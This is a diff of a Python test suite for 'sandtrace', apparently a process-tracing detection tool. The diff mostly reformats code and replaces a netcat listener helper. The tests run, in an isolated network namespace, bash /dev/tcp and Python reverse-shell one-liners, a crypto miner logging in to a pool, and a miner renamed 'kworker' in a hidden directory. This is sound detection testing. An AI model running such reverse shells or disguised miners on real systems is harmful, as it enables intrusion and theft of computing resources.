@@ -56,9 +56,19 @@ class Run:
 def sandtrace_run(net: NetNS, script: str, tmp: Path, *extra: str, background: Any = None) -> Run:
     events, alerts = tmp / "events.jsonl", tmp / "alerts.jsonl"
     argv = [
-        sys.executable, "-m", "sandtrace", "run", "--json", "--events", str(events),
-        "--alerts", str(alerts), *extra, "--", *net.in_inside("sh", "-c", script),
-    ]  # fmt: skip
+        sys.executable,
+        "-m",
+        "sandtrace",
+        "run",
+        "--json",
+        "--events",
+        str(events),
+        "--alerts",
+        str(alerts),
+        *extra,
+        "--",
+        *net.in_inside("sh", "-c", script),
+    ]
     proc = subprocess.Popen(
         argv, cwd=tmp, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
     )
@@ -99,8 +109,10 @@ def expect(run: Run, scenario: str, theme: str) -> list[dict[str, Any]]:
 def test_miner_with_stratum_url_logs_in_to_the_pool(
     testnet: NetNS, mining_pool: MiningPool, work: Path
 ) -> None:
-    script = (f"{PYTHON} {MINER_SCRIPT} -o {mining_pool.url} -u WALLET-FLAGS -p x "
-              "--donate-level=0 --cpu-priority=0")  # fmt: skip
+    script = (
+        f"{PYTHON} {MINER_SCRIPT} -o {mining_pool.url} -u WALLET-FLAGS -p x "
+        "--donate-level=0 --cpu-priority=0"
+    )
     run = sandtrace_run(testnet, script, work)
     alerts = expect(run, "miner, stratum flags", "miners")
     assert "WALLET-FLAGS" in mining_pool.wallets()
@@ -115,8 +127,9 @@ def test_renamed_miner_in_hidden_tmp_dir_configured_by_file(
     try:
         shutil.copy(os.path.realpath(PYTHON), hidden / "kworker")  # a renamed binary
         shutil.copy(MINER_SCRIPT, hidden / "m.py")
-        (hidden / "config.json").write_text(json.dumps(
-            {"pools": [{"url": mining_pool.url, "user": "WALLET-FILE", "pass": "x"}]}))  # fmt: skip
+        (hidden / "config.json").write_text(
+            json.dumps({"pools": [{"url": mining_pool.url, "user": "WALLET-FILE", "pass": "x"}]})
+        )
         run = sandtrace_run(testnet, f"cd {hidden} && ./kworker m.py -c config.json", work)
     finally:
         shutil.rmtree(hidden)
@@ -157,21 +170,8 @@ def test_local_forward_binds_a_port_and_alerts(testnet: NetNS, sshd: SshServer, 
     assert listens and listens[0]["addr"] == "127.0.0.1"
 
 
-def _listener(net: NetNS, port: int) -> subprocess.Popen[bytes]:
-    """A catcher on the outside host that tells the shell to exit."""
-    proc = subprocess.Popen(
-        net.in_outside("sh", "-c", f"echo exit | nc -l -q 2 {net.outside_addr} {port}"),
-        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
-    )  # fmt: skip
-    deadline = time.monotonic() + 5
-    while (net.outside_addr, port) not in net.listening_outside():
-        assert time.monotonic() < deadline, "listener did not start"
-        time.sleep(0.02)
-    return proc
-
-
 def test_reverse_shell_over_bash_dev_tcp(testnet: NetNS, work: Path) -> None:
-    catcher = _listener(testnet, 4444)
+    catcher = testnet.shell_catcher(4444, "exit", hangup_s=2)
     try:
         # The catcher says exit and hangs up; the shell's own status does not matter.
         script = f"bash -c 'bash -i >& /dev/tcp/{testnet.outside_addr}/4444 0>&1'; true"
@@ -183,7 +183,7 @@ def test_reverse_shell_over_bash_dev_tcp(testnet: NetNS, work: Path) -> None:
 
 
 def test_reverse_shell_from_python_one_liner(testnet: NetNS, work: Path) -> None:
-    catcher = _listener(testnet, 4445)
+    catcher = testnet.shell_catcher(4445, "exit", hangup_s=2)
     one_liner = (
         "import socket,subprocess,os;s=socket.socket();"
         f's.connect(("{testnet.outside_addr}",4445));'
@@ -260,8 +260,7 @@ def test_tunnelling_tool_client_invocation(testnet: NetNS, work: Path) -> None:
 
 def test_connect_outside_the_egress_allow_list(testnet: NetNS, sshd: SshServer, work: Path) -> None:
     code = f'import socket;socket.create_connection(("{sshd.alt_addr}",{sshd.alt_port}),2).close()'
-    run = sandtrace_run(testnet, f"{PYTHON} -c '{code}'", work, "--egress-allow",
-                        "198.51.100.0/24")  # fmt: skip
+    run = sandtrace_run(testnet, f"{PYTHON} -c '{code}'", work, "--egress-allow", "198.51.100.0/24")
     alerts = [a for a in run.alerts if a["rule_id"] == "sandtrace-egress-allow-list"]
     assert len(alerts) == 1
     assert f"{sshd.alt_addr}:{sshd.alt_port}" in alerts[0]["description"]
